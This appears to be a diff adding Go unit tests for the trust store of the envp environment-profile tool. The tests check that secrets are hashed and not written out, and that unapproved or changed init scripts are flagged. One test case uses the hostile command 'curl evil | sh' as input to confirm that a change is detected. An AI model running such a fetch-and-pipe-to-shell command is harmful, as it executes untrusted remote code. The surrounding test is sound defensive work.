@@ -0,0 +1,108 @@
+package trust
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/sunggun-yu/envp/internal/config"
+)
+
+func TestContent(t *testing.T) {
+	profile := &config.Profile{
+		Env: config.Envs{
+			{Name: "STATIC", Value: "$HOME/bin"},
+			{Name: "TOKEN", Value: "$(gcloud auth print-access-token)"},
+			{Name: "SECRET", Value: "enc:v1:abcd"},
+			{Name: "FILE", ValueFrom: &config.ValueFrom{File: "~/.token"}},
+			{Name: "CMD", ValueFrom: &config.ValueFrom{Command: []string{"pass", "show", "db"}}},
+		},
+		InitScript: "echo hello",
+	}
+	content := Content(profile, false)
+	assert.Equal(t, "env TOKEN=$(gcloud auth print-access-token)\nenv CMD from command:[pass show db]", content.Env)
+	assert.Equal(t, "init-script: echo hello", content.InitScript)
+	assert.Equal(t, "env TOKEN=$(gcloud auth print-access-token)\nenv CMD from command:[pass show db]\ninit-script: echo hello", content.String())
+	assert.Contains(t, Content(profile, true).Env, "env STATIC=$HOME/bin")
+	assert.Contains(t, Content(profile, true).Env, "env FILE from file:~/.token")
+	assert.NotContains(t, Content(profile, true).Env, "enc:v1:")
+	assert.Equal(t, "", Content(&config.Profile{Env: config.Envs{{Name: "A", Value: "a"}}}, false).String())
+	assert.Equal(t, "init-script: echo a", ProfileContent{InitScript: "init-script: echo a"}.String())
+}
+
+func TestContentSecret(t *testing.T) {
+	profile := &config.Profile{
+		Env: config.Envs{
+			{Name: "TOKEN", Value: "supersecret-plaintext", Secret: true},
+			{Name: "DB_PASSWORD", Value: "$(pass show supersecret-db)", Secret: true},
+		},
+	}
+	content := Content(profile, true)
+	assert.Equal(t, "env TOKEN=<secret sha256:"+Hash("supersecret-plaintext")+">\nenv DB_PASSWORD=<secret sha256:"+Hash("$(pass show supersecret-db)")+">", content.Env)
+	assert.NotContains(t, content.String(), "supersecret")
+
+	// change of secret value is detected
+	changed := &config.Profile{Env: config.Envs{{Name: "TOKEN", Value: "other", Secret: true}}}
+	assert.NotEqual(t, Content(profile, true).Env, Content(changed, true).Env)
+
+	// secret value is neither stored nor printed in the diff
+	name := filepath.Join(t.TempDir(), "trust.yaml")
+	store, err := NewStoreFile(name)
+	assert.NoError(t, err)
+	err = store.Check("config.yaml", "p", content, false)
+	assert.Error(t, err)
+	assert.NotContains(t, err.Error(), "supersecret")
+	assert.NoError(t, store.Allow("config.yaml", "p", content))
+	b, err := os.ReadFile(name)
+	assert.NoError(t, err)
+	assert.NotContains(t, string(b), "supersecret")
+	assert.Contains(t, string(b), "<secret sha256:")
+}
+
+func TestStoreFile(t *testing.T) {
+	store, err := NewStoreFile(filepath.Join(t.TempDir(), "state", "trust.yaml"))
+	assert.NoError(t, err)
+
+	var notAllowed *ProfileNotAllowedError
+
+	// nothing to execute
+	assert.NoError(t, store.Check("config.yaml", "p", ProfileContent{}, false))
+	assert.NoError(t, store.Check("config.yaml", "p", ProfileContent{InitScript: "init-script: echo a"}, true))
+
+	// not allowed yet
+	err = store.Check("config.yaml", "p", ProfileContent{InitScript: "init-script: echo a"}, false)
+	assert.True(t, errors.As(err, &notAllowed))
+	assert.False(t, notAllowed.changed)
+	assert.Contains(t, err.Error(), "+ init-script: echo a")
+
+	allowed := ProfileContent{Env: "env A=$(echo a)\nenv B=$(echo b)", InitScript: "init-script: check-guard\ninit-script: echo a"}
+	assert.NoError(t, store.Allow("config.yaml", "p", allowed))
+	assert.NoError(t, store.Check("config.yaml", "p", allowed, false))
+	// init-script is skipped
+	assert.NoError(t, store.Check("config.yaml", "p", ProfileContent{Env: allowed.Env, InitScript: "init-script: changed"}, true))
+	// other config file
+	assert.Error(t, store.Check("other.yaml", "p", allowed, false))
+
+	// lines of allowed content that are dropped, reordered or repeated are changes
+	for _, content := range []ProfileContent{
+		{Env: allowed.Env, InitScript: "init-script: echo a"},
+		{Env: allowed.Env, InitScript: "init-script: echo a\ninit-script: check-guard"},
+		{Env: allowed.Env, InitScript: allowed.InitScript + "\ninit-script: echo a"},
+		{Env: "env A=$(echo a)", InitScript: allowed.InitScript},
+		{Env: "env B=$(echo b)\nenv A=$(echo a)", InitScript: allowed.InitScript},
+	} {
+		err = store.Check("config.yaml", "p", content, false)
+		assert.True(t, errors.As(err, &notAllowed), content.String())
+		assert.True(t, notAllowed.changed)
+	}
+	// env is checked even if init-script is skipped
+	assert.Error(t, store.Check("config.yaml", "p", ProfileContent{Env: "env A=$(echo a)"}, true))
+
+	// changed
+	err = store.Check("config.yaml", "p", ProfileContent{Env: allowed.Env, InitScript: "init-script: curl evil | sh"}, false)
+	assert.True(t, errors.As(err, &notAllowed))
+	assert.True(t, notAllowed.changed)
+	assert.Contains(t, err.Error(), "+ init-script: curl evil | sh")
+}